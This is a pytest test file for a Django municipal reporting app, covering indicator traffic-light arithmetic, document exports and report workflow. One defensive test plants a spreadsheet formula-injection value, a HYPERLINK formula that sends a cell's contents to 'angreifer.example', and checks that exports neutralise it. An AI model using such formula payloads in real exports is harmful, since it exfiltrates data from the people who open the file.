"""Zwischenbilanz and Kurzbericht: traffic-light arithmetic, documents (PDF/DOCX/ODT) with their
figures, Kurzbericht services (update, submit, review, schedule) and the evaluation export."""

from __future__ import annotations

import csv
import io
import re
import zlib
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.core import mail
from django.core.exceptions import PermissionDenied, ValidationError
from django.utils import timezone

from leuchtfeuer.accounts.models import Role
from leuchtfeuer.core.models import AuditEntry
from leuchtfeuer.werkstatt.models import Indicator, Process, Report
from leuchtfeuer.werkstatt.process import services as process_services
from leuchtfeuer.werkstatt.reports import documents as report_documents
from leuchtfeuer.werkstatt.reports import exports as report_exports
from leuchtfeuer.werkstatt.reports import formatting as report_formatting
from leuchtfeuer.werkstatt.reports import office as report_office
from leuchtfeuer.werkstatt.reports import selectors as report_selectors
from leuchtfeuer.werkstatt.reports import services as report_services
from leuchtfeuer.werkstatt.tests import report_builders

pytestmark = pytest.mark.django_db


zb = report_builders.zb


@pytest.fixture
def office(user_factory):
    return user_factory(is_programme_office=True, email="geschaeftsstelle@example.org")


# ------------------------------------------------------------------------- pure arithmetic
def test_time_share_hand_computed():
    # 01.01.2025 → 31.12.2026 is 729 days; on 31.12.2025 364 of them have passed.
    assert report_selectors.time_share(date(2025, 1, 1), 2026, date(2025, 12, 31)) == pytest.approx(364 / 729)
    assert report_selectors.time_share(date(2025, 1, 1), 2026, date(2024, 6, 1)) == 0.0  # before the start
    assert report_selectors.time_share(date(2025, 1, 1), 2026, date(2030, 1, 1)) == 1.0  # after the end
    assert report_selectors.time_share(None, 2026, date(2025, 1, 1)) is None
    assert report_selectors.time_share(date(2027, 1, 1), 2026, date(2025, 1, 1)) is None  # empty period


def test_default_due_is_31_january_of_the_next_year():
    assert report_services.default_due(2025) == date(2026, 1, 31)


def test_german_number_formatting():
    assert report_formatting.fmt_money(Decimal("2000.50")) == "2.000,50 €"
    assert report_formatting.fmt_number(Decimal("90.000")) == "90"
    assert report_formatting.fmt_number(Decimal("12.500")) == "12,5"
    assert report_formatting.fmt_number(None) == "–"


# ------------------------------------------------------------------------- traffic light
LIGHT_CASES = [
    # (direction, baseline, target, current, share %, light, label) – hand-computed
    ("steigen", 0, 150, 90, "60 %", "gruen", "auf gutem Weg"),  # 90/150
    ("steigen", 0, 150, 75, "50 %", "gruen", "auf gutem Weg"),  # exactly half
    ("steigen", 0, 150, 150, "100 %", "gruen", "Ziel erreicht"),
    ("steigen", 0, 150, 30, "20 %", "gelb", "etwas Fortschritt"),  # 30/150
    ("steigen", 100, 120, 95, "-25 %", "rot", "kein Fortschritt oder Verschlechterung"),  # -5/20
    ("sinken", 40, 20, 35, "25 %", "gelb", "etwas Fortschritt"),  # -5/-20
    ("sinken", 40, 20, 45, "-25 %", "rot", "kein Fortschritt oder Verschlechterung"),  # 5/-20
    ("sinken", 40, 20, 10, "150 %", "gruen", "Ziel erreicht"),  # -30/-20
    ("sinken", 10, 10, 9, "100 %", "gruen", "erreicht"),  # target = baseline, at/under it
    ("steigen", 10, 10, 9, "0 %", "rot", "nicht erreicht"),
    ("steigen", None, 150, 90, "–", "grau", "keine Bewertung (Werte fehlen)"),
]


@pytest.mark.parametrize(("direction", "base", "target", "current", "percent", "light", "label"), LIGHT_CASES)
def test_traffic_light_against_hand_computed_values(
    coordinator, zb, direction, base, target, current, percent, light, label
):
    indicator = Indicator.objects.create(
        process=zb,
        kind=Indicator.Kind.CUSTOM,
        label="Testindikator",
        direction=direction,
        baseline_value=base,
        target_value=target,
    )
    indicator.readings.create(date=date(2025, 6, 1), value=current)
    (row,) = report_selectors.indicator_rows(
        zb, today=date(2025, 12, 31), indicators=Indicator.objects.filter(pk=indicator.pk)
    )
    assert (row.share_percent, row.light, row.light_label) == (percent, light, label)


def test_no_light_without_a_value_newer_than_the_baseline(zb):
    indicator = Indicator.objects.create(
        process=zb,
        kind=Indicator.Kind.CUSTOM,
        label="Testindikator",
        baseline_value=10,
        baseline_date=date(2025, 6, 1),
        target_value=20,
    )
    indicator.readings.create(date=date(2025, 6, 1), value=18)
    only = Indicator.objects.filter(pk=indicator.pk)
    (row,) = report_selectors.indicator_rows(zb, today=date(2025, 12, 31), indicators=only)
    assert (row.share_percent, row.light) == ("–", "grau")
    indicator.readings.create(date=date(2025, 9, 1), value=18)  # (18 − 10) / (20 − 10) = 0.8
    (row,) = report_selectors.indicator_rows(zb, today=date(2025, 12, 31), indicators=only)
    assert (row.share_percent, row.light) == ("80 %", "gruen")


def test_zwischenbilanz_data_counts(zb):
    data = report_selectors.zwischenbilanz_data(zb, today=date(2025, 12, 31))
    (measure,) = data["measures"]
    assert measure.status_label == "in Umsetzung"
    assert measure.budget_total == Decimal("2000.50")
    assert [(r.label, r.share_percent, r.light) for r in measure.indicators] == [
        ("Besuchende am Rückkehrertag", "60 %", "gruen"),
        ("Leerstehende Wohnungen im Ortskern", "25 %", "gelb"),
    ]
    # 01.01.2025 → 31.12.2026: 364 of 729 days passed = 49.9 % → "50 %"
    assert measure.indicators[0].time_percent == "50 %"
    assert {k: n for k, _, n in data["light_counts"]} == {"gruen": 1, "gelb": 1, "rot": 0, "grau": 0}
    assert {k: n for k, _, n in data["status_counts"]}["laufend"] == 1
    assert data["review"].narrative == report_builders.NARRATIVE


# ------------------------------------------------------------------------- documents
def _docx_text(content: bytes) -> str:
    from docx import Document

    document = Document(io.BytesIO(content))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts.extend(cell.text for cell in row.cells)
    return "\n".join(parts)


def _odt_text(content: bytes) -> str:
    from odf import teletype
    from odf.opendocument import load
    from odf.table import TableCell
    from odf.text import H, P

    document = load(io.BytesIO(content))
    parts = [teletype.extractText(e) for e in document.getElementsByType(H)]
    parts += [teletype.extractText(e) for e in document.getElementsByType(P)]
    parts += [teletype.extractText(e) for e in document.getElementsByType(TableCell)]
    return "\n".join(parts)


def _pdf_pages(content: bytes) -> int:
    r"""Number of page objects, looking into WeasyPrint's compressed object streams too.

    The stream end is matched as "\nendstream" (how WeasyPrint/pydyf writes it): with an optional
    "\r" before it, a stream whose compressed data happen to end in byte 0x0D (1 in 256) lost
    that byte and was skipped — the test then failed at random. A decompressor object also
    tolerates trailing bytes."""
    assert content.startswith(b"%PDF-") and content.rstrip().endswith(b"%%EOF")
    chunks = [content]
    for stream in re.findall(rb"stream\r?\n(.*?)\nendstream", content, flags=re.DOTALL):
        try:
            chunks.append(zlib.decompressobj().decompress(stream))
        except zlib.error:
            continue
    return sum(len(re.findall(rb"/Type\s*/Page(?![a-zA-Z])", chunk)) for chunk in chunks)


def _laid_out_text(html: str) -> str:
    """The text WeasyPrint lays out on the PDF pages (what the PDF shows)."""
    from weasyprint import HTML

    document = HTML(string=html).render()
    texts = []
    for page in document.pages:
        texts.extend(box.text for box in page._page_box.descendants() if getattr(box, "text", None))
    return " ".join(texts)


def _assert_in_every_format(doc, texts: list[str]) -> str:
    """Each text is in the DOCX, the ODT and the HTML the PDF is rendered from; → that HTML."""
    docx = _docx_text(report_exports.render(doc, "docx"))
    odt = _odt_text(report_exports.render(doc, "odt"))
    html = report_exports.doc_html(doc)
    for text in texts:
        assert text in docx, f"DOCX lacks {text!r}"
        assert text in odt, f"ODT lacks {text!r}"
        assert text in html, f"PDF HTML lacks {text!r}"
    return html


ZWISCHENBILANZ_FIGURES = [
    "Zwischenbilanz",
    "Besuchende am Rückkehrertag",
    "60 %",  # share of the way 90/150
    "25 %",  # (35-40)/(20-40)
    "grün: auf gutem Weg",
    "gelb: etwas Fortschritt",
    "2.000,50 €",  # 1,200.50 + 800.00
    "in Umsetzung",
    "Zweiter Rückkehrertag im Oktober.",
    report_builders.NARRATIVE,
    report_builders.LESSONS,
    "Anteil des Wegs = (aktueller Wert − Ausgangswert) ÷ (Zielwert − Ausgangswert).",
]


def test_zwischenbilanz_documents_contain_the_figures(zb):
    doc = report_documents.zwischenbilanz_doc(report_selectors.zwischenbilanz_data(zb))
    html = _assert_in_every_format(doc, ZWISCHENBILANZ_FIGURES)
    assert 'class="light light-gruen"' in html and 'class="light light-gelb"' in html
    # Compare without spaces and hyphens: the PDF breaks and hyphenates words across lines.
    squeeze = lambda text: re.sub(r"[\s\u00ad‐-]", "", text)  # noqa: E731
    laid_out = squeeze(_laid_out_text(html))
    for figure in ["Besuchende am Rückkehrertag", "60 %", "25 %", "2.000,50 €", report_builders.LESSONS]:
        assert squeeze(figure) in laid_out, f"PDF pages lack {figure!r}"
    assert _pdf_pages(report_exports.render(doc, "pdf")) >= 1


def test_kurzbericht_documents_contain_process_data_and_texts(coordinator, zb):
    year = timezone.localdate().year
    report = report_services.report_for_year(actor=coordinator, process=zb, year=year)
    report_services.report_update(
        actor=coordinator,
        report=report,
        summary="Ein Jahr mit zwei Rückkehrertagen.",
        highlights="Neue Partner aus der Wirtschaft.",
        challenges="Wenig Räume.",
        next_steps="Probewohnen vorbereiten.",
    )
    task = process_services.task_create(actor=coordinator, process=zb, title="Flyer drucken")
    process_services.task_complete(actor=coordinator, task=task)
    report.refresh_from_db()
    doc = report_documents.kurzbericht_doc(report_selectors.kurzbericht_data(report))
    expected = [
        f"Kurzbericht {year}",
        "Zwischenbilanz",  # current stage
        "Rückkehrertag",
        "in Umsetzung",
        "60 %",
        "Plakate und Einladungen",
        "1.200,50 €",  # this year's budget line only …
        "2.000,50 €",  # … and the total over the whole period
        "Flyer drucken",  # task done this year
        "Ein Jahr mit zwei Rückkehrertagen.",
        "Neue Partner aus der Wirtschaft.",
        "Wenig Räume.",
        "Probewohnen vorbereiten.",
    ]
    _assert_in_every_format(doc, expected)
    # Next year's line is not in this year's cost table.
    year_table = next(b for b in doc.blocks if getattr(b, "caption", "") == f"Kostenposten {year}")
    assert [row[1] for row in year_table.rows] == ["Plakate und Einladungen", ""]
    assert _pdf_pages(report_exports.render(doc, "pdf")) >= 1


# ------------------------------------------------------------------------- Kurzbericht services
def test_submit_sets_status_audits_and_mails_the_office(
    coordinator, zb, office, django_capture_on_commit_callbacks
):
    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
    with pytest.raises(ValidationError) as missing:
        report_services.report_submit(actor=coordinator, report=report)
    assert "Zusammenfassung" in missing.value.messages[0] and "Nächste Schritte" in missing.value.messages[0]
    report_services.report_update(
        actor=coordinator, report=report, summary="S", highlights="H", challenges="", next_steps="N"
    )
    with django_capture_on_commit_callbacks(execute=True):
        report_services.report_submit(actor=coordinator, report=report, base_url="https://lf.example")
    report.refresh_from_db()
    assert report.status == Report.Status.SUBMITTED
    assert report.submitted_at is not None and report.submitted_by == coordinator
    assert AuditEntry.objects.filter(action="werkstatt.report.submit", target_id=str(report.pk)).exists()
    (message,) = mail.outbox
    assert message.to == ["geschaeftsstelle@example.org"]
    assert "Kurzbericht 2025" in message.subject
    assert "https://lf.example/geschaeftsstelle/werkstatt/" in message.body
    # Submitted: no more edits, no second submission.
    with pytest.raises(ValidationError):
        report_services.report_update(
            actor=coordinator, report=report, summary="x", highlights="", challenges="", next_steps=""
        )
    with pytest.raises(ValidationError):
        report_services.report_submit(actor=coordinator, report=report)


def test_no_mail_when_the_submission_rolls_back(coordinator, zb, office, django_capture_on_commit_callbacks):
    from django.db import transaction

    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
    report_services.report_update(
        actor=coordinator, report=report, summary="S", highlights="H", challenges="", next_steps="N"
    )
    with django_capture_on_commit_callbacks(execute=True), pytest.raises(RuntimeError), transaction.atomic():
        report_services.report_submit(actor=coordinator, report=report)
        raise RuntimeError("crash after submit")
    report.refresh_from_db()
    assert report.status == Report.Status.DRAFT and not mail.outbox


def test_office_returns_and_accepts(coordinator, zb, office, django_capture_on_commit_callbacks):
    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
    report_services.report_update(
        actor=coordinator, report=report, summary="S", highlights="H", challenges="", next_steps="N"
    )
    report_services.report_submit(actor=coordinator, report=report)
    with pytest.raises(ValidationError) as no_comment:
        report_services.report_review(actor=office, report=report, accept=False)
    assert "überarbeitet" in str(no_comment.value)
    with pytest.raises(PermissionDenied):
        report_services.report_review(actor=coordinator, report=report, accept=True)
    with django_capture_on_commit_callbacks(execute=True):
        report_services.report_review(
            actor=office, report=report, accept=False, comment="Bitte Kosten ergänzen."
        )
    report.refresh_from_db()
    assert report.status == Report.Status.RETURNED and report.submitted_at is None
    assert mail.outbox[-1].to == [coordinator.email] and "Bitte Kosten ergänzen." in mail.outbox[-1].body
    # The town edits and submits again; the office accepts.
    report_services.report_update(
        actor=coordinator, report=report, summary="S2", highlights="H", challenges="", next_steps="N"
    )
    report_services.report_submit(actor=coordinator, report=report)
    report_services.report_review(actor=office, report=report, accept=True)
    report.refresh_from_db()
    assert report.status == Report.Status.ACCEPTED and report.submitted_at is not None


def test_schedule_creates_and_moves_due_dates(coordinator, zb, office, municipality_factory, role_user):
    other = municipality_factory()
    other_process = process_services.process_start(
        actor=role_user(Role.KOORDINATION, other), municipality=other, started_on=date(2025, 3, 1)
    )
    late = municipality_factory()  # begun after the report year: no report for 2025
    process_services.process_start(
        actor=role_user(Role.KOORDINATION, late), municipality=late, started_on=date(2026, 3, 1)
    )
    Process.objects.filter(pk=zb.pk).update(started_on=date(2025, 2, 1))
    own = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
    assert own.due == date(2026, 1, 31)
    with pytest.raises(PermissionDenied):
        report_services.reports_schedule(actor=coordinator, year=2025, due=date(2026, 2, 28))
    with pytest.raises(ValidationError):
        report_services.reports_schedule(actor=office, year=2025, due=date(2024, 12, 31))
    result = report_services.reports_schedule(actor=office, year=2025, due=date(2026, 2, 28))
    assert result == {"created": 1, "changed": 1}
    assert Report.objects.get(process=other_process, year=2025).due == date(2026, 2, 28)
    own.refresh_from_db()
    assert own.due == date(2026, 2, 28)
    # Idempotent.
    assert report_services.reports_schedule(actor=office, year=2025, due=date(2026, 2, 28)) == {
        "created": 0,
        "changed": 0,
    }
    assert not Report.objects.filter(process__municipality=late).exists()


def test_submitted_report_keeps_its_due_date_when_rescheduled(coordinator, zb, office):
    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
    report_services.report_update(
        actor=coordinator, report=report, summary="S", highlights="H", challenges="", next_steps="N"
    )
    report_services.report_submit(actor=coordinator, report=report)
    report_services.reports_schedule(actor=office, year=2025, due=date(2026, 3, 31))
    report.refresh_from_db()
    assert report.due == date(2026, 1, 31)


def test_report_years_are_limited_to_the_process(coordinator, zb):
    this_year = timezone.localdate().year
    for year in (2024, this_year + 1):
        with pytest.raises(ValidationError) as error:
            report_services.report_for_year(actor=coordinator, process=zb, year=year)
        assert (
            f"seit Beginn des Prozesses (2025) bis zum laufenden Jahr ({this_year}), nicht für {year}"
            in str(error.value)
        )
    assert report_services.report_for_year(actor=coordinator, process=zb, year=this_year).year == this_year


def test_report_state(coordinator, zb):
    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
    assert report_office.report_state(report, date(2026, 1, 31)) == ("offen, fällig am 31.01.2026", False)
    assert report_office.report_state(report, date(2026, 2, 1)) == ("überfällig seit 31.01.2026", True)
    assert report_office.report_state(None, date(2026, 2, 1)) == ("kein Bericht angelegt", False)


# ------------------------------------------------------------------------- evaluation table
def test_evaluation_rows_and_exports(coordinator, zb, municipality):
    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
    report_services.report_update(
        actor=coordinator, report=report, summary="S", highlights="H", challenges="", next_steps="N"
    )
    report_services.report_submit(actor=coordinator, report=report)
    (row,) = report_office.evaluation_rows(year=2025)
    region = municipality.region
    assert row["ags"] == region.ags and row["name"] == municipality.display_name
    assert row["size_class"] == region.size_class
    assert row["stage"] == "Zwischenbilanz"
    assert row["measures_total"] == 1 and row["measures_laufend"] == 1 and row["measures_geplant"] == 0
    assert (row["indicators_total"], row["indicators_gruen"], row["indicators_gelb"]) == (2, 1, 1)
    assert row["budget_planned"] == Decimal("2000.50")
    assert row["report_status"] == "eingereicht" and row["report_due"] == date(2026, 1, 31)
    assert row["plan_adopted_on"] == date(2025, 8, 1) and row["plan_versions"] == 1
    assert row["closed_kickoff"] is not None and row["closed_zwischenbilanz"] is None

    csv_text = report_exports.table_csv(report_office.EVALUATION_COLUMNS, [row], ["Hinweis"])
    lines = csv_text.lstrip("\ufeff").splitlines()
    header = lines[0].split(";")
    values = lines[1].split(";")
    assert values[header.index("AGS")] == region.ags
    assert values[header.index("Kosten geplant (Euro)")] == "2000,50"
    assert values[header.index("Indikatoren grün (auf gutem Weg oder erreicht)")] == "1"

    from openpyxl import load_workbook

    workbook = load_workbook(
        io.BytesIO(report_exports.table_xlsx(report_office.EVALUATION_COLUMNS, [row], ["Hinweis"], title="T"))
    )
    sheet = workbook["Kommunen"]
    header = [c.value for c in sheet[1]]
    data = [c.value for c in sheet[2]]
    assert data[header.index("Kosten geplant (Euro)")] == pytest.approx(2000.50)
    assert data[header.index("Maßnahmen in Umsetzung")] == 1
    assert "Erläuterungen" in workbook.sheetnames


def test_evaluation_exports_keep_hostile_names_as_text(coordinator, zb, municipality):
    """A town's display name is typed by people: a formula stays text in CSV and XLSX, a control
    character (which openpyxl refuses with an error) is dropped (issue 13, defects 6 and 7)."""
    formula = '=HYPERLINK("https://angreifer.example/?d="&A2,"Details")'
    municipality.display_name = formula
    municipality.save(update_fields=["display_name"])
    (row,) = report_office.evaluation_rows(year=2025)
    row["stage"] = "Zwischen\x0bbilanz\x01"
    csv_text = report_exports.table_csv(report_office.EVALUATION_COLUMNS, [row], ["-Hinweis+1"])
    lines = list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff")), delimiter=";"))
    values = dict(zip(lines[0], lines[1], strict=True))
    assert values["Kommune"] == "'" + formula
    assert lines[-1] == ["'-Hinweis+1"]
    assert "\x0b" not in csv_text and "\x01" not in csv_text

    from openpyxl import load_workbook

    content = report_exports.table_xlsx(report_office.EVALUATION_COLUMNS, [row], ["-Hinweis+1"], title="=T")
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook["Kommunen"]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert (cells["Kommune"].value, cells["Kommune"].data_type) == (formula, "s")
    assert cells["aktuelle Stufe"].value == "Zwischen\nbilanz"
    assert (cells["Maßnahmen in Umsetzung"].value, cells["Maßnahmen in Umsetzung"].data_type) == (1, "n")
    info = workbook["Erläuterungen"]
    assert [(c.value, c.data_type) for c in info["A"]] == [("=T", "s"), ("-Hinweis+1", "s")]


def test_overdue_counts_in_office_rows(coordinator, zb, municipality_factory):
    today = timezone.localdate()
    process_services.task_create(
        actor=coordinator, process=zb, title="alt", due_date=today - timedelta(days=3)
    )
    process_services.task_create(
        actor=coordinator, process=zb, title="neu", due_date=today + timedelta(days=3)
    )
    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
    Report.objects.filter(pk=report.pk).update(due=today - timedelta(days=1))
    municipality_factory()  # a town without a process is listed too
    rows = report_office.office_rows(year=2025, today=today)
    with_process = next(r for r in rows if r.process)
    assert (with_process.open_tasks, with_process.overdue_tasks) == (2, 1)
    assert with_process.report_overdue and with_process.overdue_items == 2
    assert any(r.process is None and r.stage_label == "kein Werkstatt-Prozess" for r in rows)


def test_demo_loader_is_idempotent(coordinator, zb, office, municipality):
    from leuchtfeuer.werkstatt.reports import demo as report_demo

    users = {"geschaeftsstelle@demo": office, "koordination.malchin@demo": coordinator}
    for _ in range(2):
        report_demo.load({"malchin": municipality}, users)
    report = Report.objects.get(process=zb, year=2025)  # the demo process began in 2025
    assert report.status == Report.Status.ACCEPTED
    assert timezone.localdate(report.submitted_at) < report.due
    assert "Demo-Inhalt (fiktiv)" in report.summary
    assert AuditEntry.objects.filter(action="werkstatt.report.submit").count() == 1
    later = Report.objects.filter(process=zb, year__gt=2025)
    assert later.exists() and all(r.status == Report.Status.DRAFT for r in later)


def test_profile_comparison_against_the_start(zb, monkeypatch):
    from leuchtfeuer.werkstatt.kommunalprofil import selectors as kommunalprofil_selectors

    snapshot = zb.profile_snapshots.first()
    snapshot.profile = {
        "indicators": [
            {
                "key": "population",
                "label": "Bevölkerung",
                "unit": "Personen",
                "value": 7231.0,
                "reference_date": "2023-12-31",
            },
            {
                "key": "share_65_plus",
                "label": "Anteil ab 65",
                "unit": "%",
                "value": 28.637,
                "reference_date": "2015-12-31",
            },
            {"key": "empty", "label": "ohne Wert", "unit": "%", "value": None, "reference_date": None},
        ]
    }
    snapshot.save()
    live = {
        "population": {"value": 7100.0, "date": date(2024, 12, 31)},
        "share_65_plus": {"value": 28.637, "date": date(2015, 12, 31)},
    }
    monkeypatch.setattr(kommunalprofil_selectors, "live_profile_indicators", lambda process: live)
    rows = report_selectors.profile_comparison(zb)
    # 7,100 − 7,231 = −131 with a newer reference date; the 2015 share has no newer value.
    assert [(r.label, r.change, r.newer) for r in rows] == [
        ("Bevölkerung", -131.0, True),
        ("Anteil ab 65", 0.0, False),
    ]
    text = report_documents.zwischenbilanz_doc(report_selectors.zwischenbilanz_data(zb)).text()
    for expected in (
        "Kommunalprofil: Ausgangslage und heute",
        "7.231",
        "7.100",
        "−131",
        "28,6",
        "kein neuerer Wert",
    ):
        assert expected in text


def test_indicator_values_same_on_page_and_in_documents():
    """The page printed "-22,0" where the PDF printed "-21,951": one rounding, German format (issue 16)."""
    from django.template import Context, Template

    page = Template("{% load werkstatt_reports %}{{ v|indicator_value }}|{{ n|indicator_value }}")
    for value, expected in ((Decimal("-21.951"), "-22"), (Decimal("1234.56"), "1.234,6"), (7, "7")):
        assert report_formatting.fmt_indicator_value(value) == expected
        assert page.render(Context({"v": value, "n": None})) == f"{expected}|–"


def test_print_html_does_not_hyphenate_automatically():
    """WeasyPrint broke "Fortschritt" as "Forts-chritt": headings and cells hyphenate manually only."""
    html = report_exports.doc_html(report_exports.Doc(title="Fortschritt"))
    assert '<html lang="de">' in html
    assert "hyphens: auto" not in html and "hyphens: manual" in html
